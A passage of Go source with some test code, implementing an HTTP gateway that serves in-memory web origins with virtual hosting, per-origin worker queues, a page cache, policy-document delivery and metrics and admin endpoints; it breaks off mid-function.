	if len(doc.Phases) != 2 || doc.Phases[0] != "alpha" || doc.Phases[1] != "beta" {
		t.Fatalf("/slowz phases %v, want [alpha beta]", doc.Phases)
	}
	if doc.Size != 2 || len(doc.Exemplars) != 3 {
		t.Fatalf("/slowz size %d exemplars %d, want 2 and 3", doc.Size, len(doc.Exemplars))
	}
	// Slowest first across phases.
	if doc.Exemplars[0].TraceID != "t-slow-2" {
		t.Fatalf("/slowz not slowest-first: %+v", doc.Exemplars)
	}
	if got := doc.Exemplars[0].Stages["handler"]; got != int64(3*time.Millisecond) {
		t.Fatalf("/slowz exemplar stage breakdown %v", doc.Exemplars[0].Stages)
	}

	doc = fetchSlowz(t, http.DefaultClient, "http", g.Addr(), "?phase=beta")
	if len(doc.Exemplars) != 1 || doc.Exemplars[0].TraceID != "t-slow-3" {
		t.Fatalf("/slowz phase filter: %+v", doc.Exemplars)
	}
	doc = fetchSlowz(t, http.DefaultClient, "http", g.Addr(), "?phase=nope")
	if len(doc.Exemplars) != 0 {
		t.Fatalf("/slowz unknown phase returned exemplars: %+v", doc.Exemplars)
	}

	// A web origin's Host header must never expose the admin surface:
	// the path routes to the origin's handler instead.
	resp = rawGet(t, g, "slowz-origin.example", "/slowz", nil)
	body := readBody(t, resp)
	if resp.StatusCode != http.StatusOK || body != "<html><body>ok</body></html>" {
		t.Fatalf("/slowz on an origin host: status %d body %q", resp.StatusCode, body)
	}
}

// TestVarzStageAndOriginLatency pins the new /varz families: the
// per-origin latency summary every mounted origin gets for free, and
// the per-stage summaries when a StageSet is wired.
func TestVarzStageAndOriginLatency(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://latency-origin.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML("<html><body>ok</body></html>")
	}))
	reg := obs.NewRegistry()
	g := startGateway(t, n, Config{Obs: reg, Stages: obs.NewStageSet(reg)})

	resp := rawGet(t, g, "latency-origin.example", "/", nil)
	resp.Body.Close()

	resp = rawGet(t, g, "", "/varz", nil)
	body := readBody(t, resp)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/varz: status %d", resp.StatusCode)
	}
	for _, want := range []string{
		"# TYPE escudo_origin_latency_seconds summary",
		`escudo_origin_latency_seconds{origin="http://latency-origin.example",quantile="0.99"}`,
		`escudo_origin_latency_seconds_count{origin="http://latency-origin.example"} 1`,
		"# TYPE escudo_stage_seconds summary",
		`escudo_stage_seconds_count{stage="handler"} 1`,
		`escudo_stage_seconds_count{stage="translate"} 1`,
	} {
		if !contains(body, want) {
			t.Fatalf("/varz missing %q:\n%s", want, body)
		}
	}
}
