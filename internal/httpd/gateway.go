// Package httpd mounts the in-memory web substrate on real sockets:
// a Gateway serves registered origins from one net/http listener with
// Host-header virtual hosting, per-origin bounded worker queues, a
// cross-request page cache for immutable fixture bodies, and admin
// endpoints; a ClientTransport implements web.Transport over loopback
// so a mediating browser on one side of a socket drives the same
// applications as the in-memory network.
//
// The protection model itself never moves: complete mediation (§4.2)
// happens in the browser's reference monitors and the applications'
// configuration headers, both of which the gateway carries opaquely.
// Verdicts and audit records are therefore transport-independent — the
// equivalence tests in this package pin that invariant down.
package httpd

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	nhpprof "net/http/pprof"
	"net/url"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/ctlplane"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/web"
)

// PolicyPath is the well-known path at which the gateway serves a
// mounted origin's unified policy document (policy.Policy as JSON).
// Policy travels the wire as DATA: the gateway delivers the document,
// and every enforcement decision stays in the browser-side monitors —
// the transport-independence invariant is untouched.
const PolicyPath = "/.well-known/escudo-policy"

// maxFormBytes bounds a form body read (a million-user gateway must
// not buffer unbounded request bodies).
const maxFormBytes = 10 << 20

// Gateway-control headers. HeaderGateway marks responses synthesized
// by the gateway itself (routing failures, overload) so a
// ClientTransport can map them back to the in-memory error contract;
// the initiator headers carry the web.Request initiator metadata
// across the socket so the server-side request log stays as
// informative as the in-memory one.
const (
	HeaderGateway         = "X-Escudo-Gateway"
	HeaderInitiatorOrigin = "X-Escudo-Initiator-Origin"
	HeaderInitiatorLabel  = "X-Escudo-Initiator-Label"
	// HeaderTrace carries the issuing task's trace ID (internal/obs)
	// across the socket, so the server-side request log links requests
	// to the browser-side decisions the same trace stamps.
	HeaderTrace = "X-Escudo-Trace"
	// HeaderOrigKeys lists the header keys the origin's web.Response
	// actually carried, so ClientTransport can strip everything the
	// HTTP plumbing added (Date, Content-Length, sniffed Content-Type)
	// and reconstruct the response header set byte-for-byte.
	HeaderOrigKeys = "X-Escudo-Orig-Keys"
)

// HeaderGateway values.
const (
	gatewayNoServer     = "no-server"
	gatewayOverloaded   = "overloaded"
	gatewayBadRequest   = "bad-request"
	gatewayShuttingDown = "shutting-down"
)

// OriginConfig sizes one origin's worker queue and carries its policy
// document.
type OriginConfig struct {
	// Workers is the origin's concurrency: how many requests the
	// origin's handler serves at once (default Weight ×
	// Config.DefaultWorkers).
	Workers int
	// QueueDepth bounds the origin's wait queue; an arriving request
	// that finds it full is rejected with 503 instead of starving
	// other origins' workers (default Weight × Config.DefaultQueueDepth).
	QueueDepth int
	// Weight is the origin's admission weight: a multiplier applied to
	// the gateway defaults when Workers/QueueDepth are unset, so a hot
	// origin can get a deeper queue and more workers than a cold one
	// without every origin being sized by hand (default 1). Explicit
	// Workers/QueueDepth values win over the weight.
	Weight int
	// Policy, when non-nil, is the origin's unified policy document.
	// It is validated at mount time, served at PolicyPath on the
	// origin, and listed by the admin /policyz endpoint.
	Policy *policy.Policy
}

// Config configures a Gateway.
type Config struct {
	// Inner serves the mounted origins — normally a *web.Network. The
	// gateway adds transport, scheduling, and caching; routing
	// semantics (including the request log and 502-for-unregistered)
	// stay Inner's.
	Inner web.Transport
	// DefaultWorkers is the per-origin worker count when Mount is not
	// given one (default 4).
	DefaultWorkers int
	// DefaultQueueDepth is the per-origin queue bound when Mount is
	// not given one (default 64).
	DefaultQueueDepth int
	// DisableCache turns the cross-request page cache off.
	DisableCache bool
	// CacheMaxEntries bounds the page cache's entry count (default
	// 4096); past it the least recently used entries are evicted.
	CacheMaxEntries int
	// CacheMaxBytes bounds the page cache's approximate resident size
	// (default 32 MiB), enforced the same way.
	CacheMaxBytes int64
	// Origins carries per-origin configuration (queue shape, weight,
	// policy document) keyed by origin string ("http://forum.example"),
	// applied when Mount/MountNetwork register that origin without an
	// explicit OriginConfig.
	Origins map[string]OriginConfig
	// StatsFunc, when non-nil, is invoked by /metricsz and its result
	// embedded in the JSON under "engine" — the load driver plugs
	// engine.Pool.Stats in here.
	StatsFunc func() any
	// ClientStatsFunc, when non-nil, is embedded in /metricsz under
	// "client" — a single-process load driver plugs its
	// ClientTransport.Stats in here so connection-reuse counters show
	// up next to the gateway's own.
	ClientStatsFunc func() any
	// TLS, when non-nil, terminates https on the listener: every
	// handshake gets a leaf certificate minted by the CA, selected by
	// SNI (per-origin identity) with a loopback default for SNI-less
	// admin probes. TLS is pure transport — origins, verdicts, and
	// audit semantics are unchanged, which the TLS equivalence test
	// pins.
	TLS *CA
	// HoldReady keeps /healthz reporting "starting" (503) after Start
	// until SetReady(true) — the serve-only driver holds readiness
	// through its warm self-check so a supervisor's poll cannot race
	// the mount loop.
	HoldReady bool
	// EnablePprof mounts net/http/pprof under /debug/pprof/ on the
	// admin host (the listener's own address, same isolation as
	// /metricsz — a web-origin Host header can never reach it). Off by
	// default: profiling endpoints are a diagnostic surface, opted
	// into per run (`escudo-serve -pprof`).
	EnablePprof bool
	// Obs, when non-nil, is the metrics registry the gateway's counters
	// register in (and that /varz exposes as Prometheus text). nil gets
	// a private registry — the counters still work, /varz still serves.
	// Share one registry across the gateway, the driver, and the
	// sampler so /varz is the whole process in one page.
	Obs *obs.Registry
	// Ring, when non-nil, is the decision-provenance ring served at the
	// admin /tracez endpoint. The driver shares it with the browser
	// sessions (browser.Options.DecisionRing); a nil ring 404s /tracez.
	Ring *obs.DecisionRing
	// Stages, when non-nil, enables gateway-side latency attribution:
	// per-request queue-wait, handler, and transport-translation spans
	// fold into the set's escudo_stage_seconds histograms. Share the
	// set with the load driver so browser-side stages (batch_auth,
	// script_vm, render) land in the same /varz families.
	Stages *obs.StageSet
	// Slow, when non-nil, is the tail-exemplar ring served at the admin
	// /slowz endpoint. The gateway records its slowest requests under
	// the "gateway" phase (keyed by the X-Escudo-Trace ID); the driver
	// shares the ring so engine-side phases land beside them. A nil
	// ring 404s /slowz.
	Slow *obs.SlowRing
	// Policies, when non-nil, is the control-plane store holding the
	// fleet's per-origin policy documents. nil gets a private store.
	// Mount seeds it from OriginConfig.Policy; /policyz serves it
	// (generation included, ?wait long-polls it); POST /policyz/reload
	// swaps documents in it live. Enforcement never moves — the store
	// versions and distributes documents, the browser-side monitors
	// decide.
	Policies *ctlplane.Store
}

// vhost is one mounted origin: its identity, its bounded queue, and
// its per-origin traffic counters (registry handles labeled by
// origin, so /varz breaks traffic down per origin for free). stop is
// closed by Unmount, terminating this origin's workers — and rescuing
// any requester still parked on a queued job — without touching the
// rest of the fleet.
type vhost struct {
	origin  origin.Origin
	cfg     OriginConfig
	jobs    chan *job
	stop    chan struct{}
	served  *obs.Counter
	dropped *obs.Counter
	// latency is the origin's request-latency histogram
	// (escudo_origin_latency_seconds{origin=...}), exposed on /varz as
	// p50/p99 summaries — the noisy-neighbor probe's per-origin tail,
	// observable live without a BENCH run.
	latency *obs.Hist
}

// vhostTable is one immutable generation of the mount table, read
// lock-free on every request via an atomic pointer. Mount and Unmount
// copy-on-write a fresh table under the mount mutex and swap — the
// same discipline as web.Network's server table and ctlplane.Store —
// so the request path never contends with mount churn at thousands of
// origins.
type vhostTable struct {
	byHost   map[string]*vhost        // Host-header key → vhost
	byOrigin map[origin.Origin]*vhost // one vhost per origin
}

// emptyVhostTable is the before-first-mount generation.
var emptyVhostTable = &vhostTable{byHost: map[string]*vhost{}, byOrigin: map[origin.Origin]*vhost{}}

// clone copies the table for a COW mutation.
func (t *vhostTable) clone() *vhostTable {
	next := &vhostTable{
		byHost:   make(map[string]*vhost, len(t.byHost)+2),
		byOrigin: make(map[origin.Origin]*vhost, len(t.byOrigin)+1),
	}
	for k, v := range t.byHost {
		next.byHost[k] = v
	}
	for k, v := range t.byOrigin {
		next.byOrigin[k] = v
	}
	return next
}

// job carries one translated request to an origin worker. enq stamps
// the enqueue instant when stage timing is on (zero otherwise), so the
// worker can attribute queue-wait.
type job struct {
	req  *web.Request
	done chan jobResult
	enq  time.Time
}

// jobResult carries the origin's answer back, plus the worker-side
// stage spans (zero when stage timing is off) so the requester can
// record the request's full breakdown.
type jobResult struct {
	resp    *web.Response
	err     error
	wait    time.Duration
	handler time.Duration
}

// Stats counts gateway traffic.
type Stats struct {
	// Served counts origin responses written (cache hits included;
	// 503 rejections and admin endpoints excluded).
	Served uint64 `json:"served"`
	// Rejected503 counts requests dropped because their origin's
	// queue was full.
	Rejected503 uint64 `json:"rejected_503"`
	// MaxQueueDepth is the deepest any origin queue has been since
	// Start or the last ResetQueueHighWater.
	MaxQueueDepth int64 `json:"max_queue_depth"`
	// Cache is the page-cache traffic.
	Cache CacheStats `json:"page_cache"`
}

// Sub returns the counter delta s-base. MaxQueueDepth and
// Cache.Entries are running high-water/absolute values and pass
// through unchanged.
func (s Stats) Sub(base Stats) Stats {
	return Stats{
		Served:        s.Served - base.Served,
		Rejected503:   s.Rejected503 - base.Rejected503,
		MaxQueueDepth: s.MaxQueueDepth,
		Cache:         s.Cache.Sub(base.Cache),
	}
}

// Add sums two snapshots — used to aggregate a fleet of short-lived
// gateways (the per-environment attack replay) into one section.
func (s Stats) Add(o Stats) Stats {
	out := Stats{
		Served:        s.Served + o.Served,
		Rejected503:   s.Rejected503 + o.Rejected503,
		MaxQueueDepth: s.MaxQueueDepth,
		Cache:         s.Cache.Add(o.Cache),
	}
	if o.MaxQueueDepth > out.MaxQueueDepth {
		out.MaxQueueDepth = o.MaxQueueDepth
	}
	return out
}

// Gateway serves a web substrate over a real net/http listener.
type Gateway struct {
	cfg      Config
	inner    web.Transport
	cache    *pageCache
	policies *ctlplane.Store

	// mountMu serializes mount-table mutations (Mount, Unmount, Start);
	// the request path reads table lock-free.
	mountMu sync.Mutex
	table   atomic.Pointer[vhostTable]
	started bool // under mountMu

	srv      *http.Server
	ln       net.Listener
	quit     chan struct{}
	stopOnce sync.Once
	workers  sync.WaitGroup

	// The traffic counters are registry handles (one atomic each, same
	// hot-path cost as the raw atomics they replaced), so /metricsz,
	// Stats(), and /varz all read the same instances. maxDepth keeps a
	// raw atomic for its CAS race and mirrors into a gauge.
	reg       *obs.Registry
	served    *obs.Counter
	rejected  *obs.Counter
	maxDepth  atomic.Int64
	maxDepthG *obs.Gauge
	ready     atomic.Bool
}

// New builds a gateway over the inner transport.
func New(cfg Config) (*Gateway, error) {
	if cfg.Inner == nil {
		return nil, errors.New("httpd: Config.Inner is required")
	}
	if cfg.DefaultWorkers <= 0 {
		cfg.DefaultWorkers = 4
	}
	if cfg.DefaultQueueDepth <= 0 {
		cfg.DefaultQueueDepth = 64
	}
	g := &Gateway{
		cfg:      cfg,
		inner:    cfg.Inner,
		policies: cfg.Policies,
		quit:     make(chan struct{}),
	}
	g.table.Store(emptyVhostTable)
	if g.policies == nil {
		g.policies = ctlplane.NewStore()
	}
	g.reg = cfg.Obs
	if g.reg == nil {
		g.reg = obs.NewRegistry()
	}
	g.served = g.reg.Counter("escudo_gateway_served_total")
	g.rejected = g.reg.Counter("escudo_gateway_rejected_total")
	g.maxDepthG = g.reg.Gauge("escudo_gateway_queue_depth_max")
	// The fleet policy-generation counter mirrors into /varz on every
	// accepted swap.
	g.policies.SetGauge(g.reg.Gauge("escudo_policy_generation"))
	if !cfg.DisableCache {
		g.cache = newPageCache(cfg.CacheMaxEntries, cfg.CacheMaxBytes)
	}
	return g, nil
}

// hostKey is the Host-header form of an origin ("forum.example" for
// default-port http, "forum.example:8080" otherwise).
func hostKey(o origin.Origin) string {
	if o.Port == 80 {
		return o.Host
	}
	return fmt.Sprintf("%s:%d", o.Host, o.Port)
}

// Mount registers an origin for virtual hosting with the queue shape
// from Config.Origins (or the defaults). Mounting is live: before
// Start it stages the origin; after Start the origin's workers spawn
// immediately and the COW table swap makes it routable without
// stalling a single in-flight request. Only http-scheme origins can
// be mounted: origins are logical http:// identities throughout the
// substrate, and TLS (Config.TLS) is applied at the transport layer
// without changing them — that is what keeps verdicts identical
// across plain and https deployments.
func (g *Gateway) Mount(o origin.Origin) error {
	if pre, ok := g.cfg.Origins[o.String()]; ok {
		return g.MountOpts(o, pre)
	}
	return g.MountOpts(o, OriginConfig{})
}

// MountOpts is Mount with an explicit queue shape and policy. Unset
// Workers/QueueDepth derive from the gateway defaults scaled by the
// origin's admission weight.
func (g *Gateway) MountOpts(o origin.Origin, cfg OriginConfig) error {
	if o.Scheme != "http" {
		return fmt.Errorf("httpd: cannot mount %s: only http origins are served", o)
	}
	if cfg.Weight <= 0 {
		cfg.Weight = 1
	}
	if cfg.Workers <= 0 {
		cfg.Workers = cfg.Weight * g.cfg.DefaultWorkers
	}
	if cfg.QueueDepth <= 0 {
		cfg.QueueDepth = cfg.Weight * g.cfg.DefaultQueueDepth
	}
	if cfg.Policy != nil {
		if err := cfg.Policy.Validate(); err != nil {
			return fmt.Errorf("httpd: mounting %s: %w", o, err)
		}
		if cfg.Policy.Origin != o.String() {
			return fmt.Errorf("httpd: mounting %s: policy document names origin %q", o, cfg.Policy.Origin)
		}
	}
	g.mountMu.Lock()
	defer g.mountMu.Unlock()
	if _, exists := g.table.Load().byOrigin[o]; exists {
		return fmt.Errorf("httpd: %s already mounted", o)
	}
	vh := &vhost{
		origin:  o,
		cfg:     cfg,
		jobs:    make(chan *job, cfg.QueueDepth),
		stop:    make(chan struct{}),
		served:  g.reg.Counter("escudo_origin_served_total", obs.L("origin", o.String())),
		dropped: g.reg.Counter("escudo_origin_dropped_total", obs.L("origin", o.String())),
		latency: g.reg.Histogram("escudo_origin_latency_seconds", obs.L("origin", o.String())),
	}
	next := g.table.Load().clone()
	next.byOrigin[o] = vh
	next.byHost[hostKey(o)] = vh
	// A client that spells the default port explicitly still lands on
	// the same origin.
	if o.Port == 80 {
		next.byHost[o.Host+":80"] = vh
	}
	g.table.Store(next)
	if cfg.Policy != nil {
		// Seeding the store bumps the fleet generation like any other
		// swap; the mount is the document's first publication.
		if _, _, err := g.policies.Set(*cfg.Policy); err != nil {
			// Unreachable: the document validated above.
			return fmt.Errorf("httpd: mounting %s: %w", o, err)
		}
	}
	if g.started {
		g.spawnWorkers(vh)
	}
	return nil
}

// Unmount removes an origin live: the COW table swap makes it
// unroutable, its workers exit, any requester still parked on its
// queue is rescued with a no-server answer (the in-memory semantics of
// an unregistered origin), and its policy document leaves the store.
// Unmounting an unknown origin is a no-op.
func (g *Gateway) Unmount(o origin.Origin) {
	g.mountMu.Lock()
	defer g.mountMu.Unlock()
	cur := g.table.Load()
	vh, ok := cur.byOrigin[o]
	if !ok {
		return
	}
	next := cur.clone()
	delete(next.byOrigin, o)
	for k, v := range next.byHost {
		if v == vh {
			delete(next.byHost, k)
		}
	}
	g.table.Store(next)
	close(vh.stop)
	g.policies.Remove(o.String())
}

// spawnWorkers starts one origin's worker pool (mountMu held).
func (g *Gateway) spawnWorkers(vh *vhost) {
	for i := 0; i < vh.cfg.Workers; i++ {
		g.workers.Add(1)
		go g.work(vh)
	}
}

// MountNetwork mounts every origin currently registered on the
// network with the default queue shape.
func (g *Gateway) MountNetwork(n *web.Network) error {
	for _, o := range n.Origins() {
		if err := g.Mount(o); err != nil {
			return err
		}
	}
	return nil
}

// Start listens on addr ("127.0.0.1:0" for an ephemeral loopback
// port), spawns every mounted origin's workers, and serves in the
// background until Shutdown.
func (g *Gateway) Start(addr string) error {
	g.mountMu.Lock()
	if g.started {
		g.mountMu.Unlock()
		return errors.New("httpd: already started")
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		g.mountMu.Unlock()
		return fmt.Errorf("httpd: listen %s: %w", addr, err)
	}
	g.ln = ln
	serveLn := ln
	if g.cfg.TLS != nil {
		serveLn = tls.NewListener(ln, g.cfg.TLS.ServerConfig())
	}
	g.srv = &http.Server{Handler: g, ReadHeaderTimeout: 10 * time.Second}
	g.started = true
	for _, vh := range g.table.Load().byOrigin {
		g.spawnWorkers(vh)
	}
	g.mountMu.Unlock()
	// Readiness flips only after every origin's worker pool is up; a
	// HoldReady gateway additionally waits for SetReady (the driver's
	// own warm-up gate).
	if !g.cfg.HoldReady {
		g.ready.Store(true)
	}
	go g.srv.Serve(serveLn) //nolint:errcheck // Serve always returns ErrServerClosed after Shutdown.
	return nil
}

// TLS reports whether the gateway terminates https.
func (g *Gateway) TLS() bool { return g.cfg.TLS != nil }

// SetReady flips the /healthz readiness state — see Config.HoldReady.
func (g *Gateway) SetReady(ready bool) { g.ready.Store(ready) }

// Addr returns the listener address ("127.0.0.1:41234").
func (g *Gateway) Addr() string {
	if g.ln == nil {
		return ""
	}
	return g.ln.Addr().String()
}

// Shutdown gracefully stops the gateway: the listener closes, in-flight
// requests finish, then the origin workers exit.
func (g *Gateway) Shutdown(ctx context.Context) error {
	var err error
	if g.srv != nil {
		err = g.srv.Shutdown(ctx)
	}
	g.stopOnce.Do(func() { close(g.quit) })
	g.workers.Wait()
	return err
}

// Close is Shutdown with a 5-second deadline.
func (g *Gateway) Close() error {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	return g.Shutdown(ctx)
}

// ResetQueueHighWater zeroes the max-queue-depth gauge, so a
// measurement phase can record its own high-water mark instead of
// inheriting an earlier phase's spike.
func (g *Gateway) ResetQueueHighWater() {
	g.maxDepth.Store(0)
	g.maxDepthG.Set(0)
}

// Registry returns the gateway's metrics registry (Config.Obs, or the
// private one New created) — what /varz exposes.
func (g *Gateway) Registry() *obs.Registry { return g.reg }

// Stats snapshots the gateway counters.
func (g *Gateway) Stats() Stats {
	st := Stats{
		Served:        g.served.Value(),
		Rejected503:   g.rejected.Value(),
		MaxQueueDepth: g.maxDepth.Load(),
	}
	if g.cache != nil {
		st.Cache = g.cache.stats()
	}
	return st
}

// work is one origin worker: pull a translated request, round-trip it
// on the inner transport, hand the result back. vh.stop ends the pool
// when the origin is unmounted; g.quit ends every pool at shutdown.
func (g *Gateway) work(vh *vhost) {
	defer g.workers.Done()
	timed := g.cfg.Stages != nil
	for {
		select {
		case j := <-vh.jobs:
			var res jobResult
			if timed && !j.enq.IsZero() {
				res.wait = time.Since(j.enq)
				hStart := time.Now()
				res.resp, res.err = g.inner.RoundTrip(j.req)
				res.handler = time.Since(hStart)
				g.cfg.Stages.Observe(obs.StageQueueWait, res.wait)
				g.cfg.Stages.Observe(obs.StageHandler, res.handler)
			} else {
				res.resp, res.err = g.inner.RoundTrip(j.req)
			}
			j.done <- res
		case <-vh.stop:
			return
		case <-g.quit:
			return
		}
	}
}

// lookupVhost resolves the Host header to a mounted origin — one
// atomic load, no lock, however many thousands of origins are mounted
// and however hard Mount/Unmount churn the table.
func (g *Gateway) lookupVhost(host string) (*vhost, bool) {
	vh, ok := g.table.Load().byHost[strings.ToLower(host)]
	return vh, ok
}

// Policies returns the gateway's control-plane store (Config.Policies,
// or the private one New created).
func (g *Gateway) Policies() *ctlplane.Store { return g.policies }

// requestHeaderSkip are HTTP-plumbing request headers that in-memory
// requests never carry; dropping them keeps the translated request —
// and hence the server-side request log — identical to the in-memory
// path. The initiator headers are consumed into request fields.
var requestHeaderSkip = map[string]bool{
	"Accept-Encoding":     true,
	"Connection":          true,
	"Content-Length":      true,
	"Content-Type":        true,
	"User-Agent":          true,
	HeaderInitiatorOrigin: true,
	HeaderInitiatorLabel:  true,
	HeaderTrace:           true,
}

// reqPool recycles the web.Request every incoming HTTP request is
// translated into. A request is returned to the pool only after its
// response is written (releaseRequest); the one path that abandons a
// possibly-queued job — shutdown — leaks its request to the GC
// instead, because a worker may still be reading it.
var reqPool = sync.Pool{New: func() any { return &web.Request{} }}

// releaseRequest hands a translated request back to the pool.
func releaseRequest(req *web.Request) { reqPool.Put(req) }

// jobPool recycles job envelopes; the buffered done channel is reused
// across requests. Jobs abandoned at shutdown are never pooled again
// (the worker may still deliver into done).
var jobPool = sync.Pool{New: func() any { return &job{done: make(chan jobResult, 1)} }}

// translate builds the web.Request an incoming HTTP request denotes
// for the given target origin. The request comes from reqPool; the
// caller releases it after the response is written.
func translate(r *http.Request, target origin.Origin) *web.Request {
	req := reqPool.Get().(*web.Request)
	req.Reset(r.Method, target.URL(r.URL.RequestURI()))
	for k, vs := range r.Header {
		if requestHeaderSkip[k] {
			continue
		}
		for _, v := range vs {
			req.Header.Add(k, v)
		}
	}
	if initiator := r.Header.Get(HeaderInitiatorOrigin); initiator != "" {
		if o, err := origin.Parse(initiator); err == nil {
			req.InitiatorOrigin = o
		}
	}
	req.InitiatorLabel = r.Header.Get(HeaderInitiatorLabel)
	req.TraceID = r.Header.Get(HeaderTrace)
	// Forms travel as application/x-www-form-urlencoded bodies for
	// every method (see ClientTransport.RoundTrip): parse the body
	// directly rather than via r.ParseForm, which ignores GET bodies
	// and would fold the URL query into the form.
	if strings.HasPrefix(r.Header.Get("Content-Type"), "application/x-www-form-urlencoded") {
		data, err := io.ReadAll(io.LimitReader(r.Body, maxFormBytes))
		if err == nil {
			if form, err := url.ParseQuery(string(data)); err == nil && len(form) > 0 {
				req.Form = form
			}
		}
	}
	return req
}

// origKeysValue renders a response's header-key set as the
// X-Escudo-Orig-Keys value.
func origKeysValue(h web.Header) string {
	keys := make([]string, 0, len(h))
	for k := range h {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return strings.Join(keys, ",")
}

// writeResponse writes a web.Response out as HTTP, advertising the
// origin's own header-key set so the client side can reconstruct it
// exactly. origKeys may be precomputed (cache hits); "" computes it.
func (g *Gateway) writeResponse(w http.ResponseWriter, resp *web.Response, etag, origKeys string) {
	for k, vs := range resp.Header {
		for _, v := range vs {
			w.Header().Add(k, v)
		}
	}
	if origKeys == "" {
		origKeys = origKeysValue(resp.Header)
	}
	w.Header().Set(HeaderOrigKeys, origKeys)
	if etag != "" {
		w.Header().Set("ETag", etag)
	}
	w.WriteHeader(resp.Status)
	if resp.Body != "" {
		// io.WriteString, not fmt.Fprint: the latter boxes the body
		// string into an interface argument on every response.
		io.WriteString(w, resp.Body) //nolint:errcheck // client went away; nothing to do
	}
	g.served.Add(1)
}

// gatewayError writes a gateway-synthesized error response, marked so
// ClientTransport can restore the in-memory error contract.
func (g *Gateway) gatewayError(w http.ResponseWriter, kind string, status int, msg string) {
	w.Header().Set(HeaderGateway, kind)
	if status == http.StatusServiceUnavailable {
		w.Header().Set("Retry-After", "1")
	}
	http.Error(w, msg, status)
}

// ServeHTTP routes by Host header: mounted origins go through their
// worker queue (with a page-cache probe first), the admin endpoints
// answer only on the listener's own address (so a web-origin Host can
// never reach them — an unregistered origin's /healthz must 502
// exactly as it does in memory), and every other unmapped host falls
// back to the inner transport inline (late-registered or unregistered
// origins behave exactly as in memory, 502 log entry included).
func (g *Gateway) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if vh, ok := g.lookupVhost(r.Host); ok {
		g.serveOrigin(w, r, vh)
		return
	}
	if strings.EqualFold(r.Host, g.Addr()) {
		switch r.URL.Path {
		case "/healthz":
			g.serveHealthz(w)
		case "/livez":
			g.serveLivez(w)
		case "/metricsz":
			g.serveMetricsz(w)
		case "/varz":
			g.serveVarz(w)
		case "/tracez":
			g.serveTracez(w, r)
		case "/slowz":
			g.serveSlowz(w, r)
		case "/policyz":
			g.servePolicyz(w, r)
		case "/policyz/reload":
			g.serveReload(w, r)
		default:
			if g.cfg.EnablePprof && strings.HasPrefix(r.URL.Path, "/debug/pprof") {
				servePprof(w, r)
				return
			}
			http.NotFound(w, r)
		}
		return
	}
	g.serveFallback(w, r)
}

// serveOrigin is the mounted-origin path: policy delivery, cache
// probe, bounded enqueue, worker round trip, response translation.
func (g *Gateway) serveOrigin(w http.ResponseWriter, r *http.Request, vh *vhost) {
	// arrival anchors the per-origin latency histogram (always on — the
	// per-origin tail must be observable without a BENCH run) and, with
	// stage timing configured, the request's slow-ring exemplar.
	arrival := time.Now()
	timed := g.cfg.Stages != nil
	// Wire delivery of the origin's policy document — read from the
	// control-plane store, so a live reload is what PolicyPath serves
	// from the instant the swap lands. The document is data — the
	// browser-side monitors consume it; the gateway decides nothing.
	// Origins without a mounted policy fall through to their handler
	// (which may well serve its own).
	if r.Method == "GET" && r.URL.Path == PolicyPath {
		if p, _, ok := g.policies.Get(vh.origin.String()); ok {
			g.servePolicyDoc(w, p)
			vh.served.Add(1)
			g.served.Add(1)
			vh.latency.Observe(time.Since(arrival))
			return
		}
	}
	req := translate(r, vh.origin)
	var trans time.Duration
	if timed {
		trans = time.Since(arrival)
	}

	// GET-form submissions (non-empty Form) bypass the cache entirely:
	// they must reach the server and its request log like any other
	// form, whatever was cached under the same path and query.
	var key pageKey
	if g.cache != nil && r.Method == "GET" && len(req.Form) == 0 {
		key = pageKey{
			host:    hostKey(vh.origin),
			path:    req.Path(),
			query:   r.URL.RawQuery,
			cookies: cookieKey(req),
		}
		if page, ok := g.cache.get(key); ok {
			if r.Header.Get("If-None-Match") == page.etag {
				g.cache.notModified.Add(1)
				w.Header()["Etag"] = page.etagVal
				w.WriteHeader(http.StatusNotModified)
				vh.served.Add(1)
				g.served.Add(1)
				vh.latency.Observe(time.Since(arrival))
				releaseRequest(req)
				return
			}
			vh.served.Add(1)
			g.writeCachedPage(w, page)
			vh.latency.Observe(time.Since(arrival))
			releaseRequest(req)
			return
		}
	}

	j := jobPool.Get().(*job)
	j.req = req
	j.enq = time.Time{}
	if timed {
		j.enq = time.Now()
	}
	select {
	case vh.jobs <- j:
	default:
		vh.dropped.Add(1)
		g.rejected.Add(1)
		g.gatewayError(w, gatewayOverloaded, http.StatusServiceUnavailable,
			fmt.Sprintf("origin %s queue full", vh.origin))
		j.req = nil
		jobPool.Put(j)
		releaseRequest(req)
		return
	}
	for depth := int64(len(vh.jobs)); ; {
		cur := g.maxDepth.Load()
		if depth <= cur {
			break
		}
		if g.maxDepth.CompareAndSwap(cur, depth) {
			g.maxDepthG.Set(depth)
			break
		}
	}
	// Also watch quit and the vhost's own stop: a deadline-expired
	// Shutdown may stop the workers while this job is still queued, and
	// a live Unmount retires this origin's pool the same way — in both
	// cases an abandoned job must not strand its handler (done is
	// buffered, so a worker that did pick the job up can still deliver
	// and move on). An unmounted origin answers exactly like an
	// unregistered one: a marked no-server 502, the in-memory contract.
	// Abandoned jobs and their requests are NOT pooled again — the
	// worker may still touch both.
	var res jobResult
	select {
	case res = <-j.done:
	case <-vh.stop:
		g.gatewayError(w, gatewayNoServer, http.StatusBadGateway,
			fmt.Sprintf("origin %s unmounted", vh.origin))
		return
	case <-g.quit:
		g.gatewayError(w, gatewayShuttingDown, http.StatusServiceUnavailable, "gateway shutting down")
		return
	}
	j.req = nil
	jobPool.Put(j)
	if res.err != nil {
		g.routeError(w, res.err)
		releaseRequest(req)
		return
	}
	var etag string
	if g.cache != nil && cacheable(req, res.resp) {
		etag = g.cache.put(key, res.resp)
		g.cache.misses.Add(1)
	}
	vh.served.Add(1)
	wStart := time.Now()
	g.writeResponse(w, res.resp, etag, "")
	total := time.Since(arrival)
	vh.latency.Observe(total)
	if timed {
		// Translation is the gateway's own bookkeeping around the
		// round trip: request translation on the way in plus response
		// writing on the way out.
		trans += time.Since(wStart)
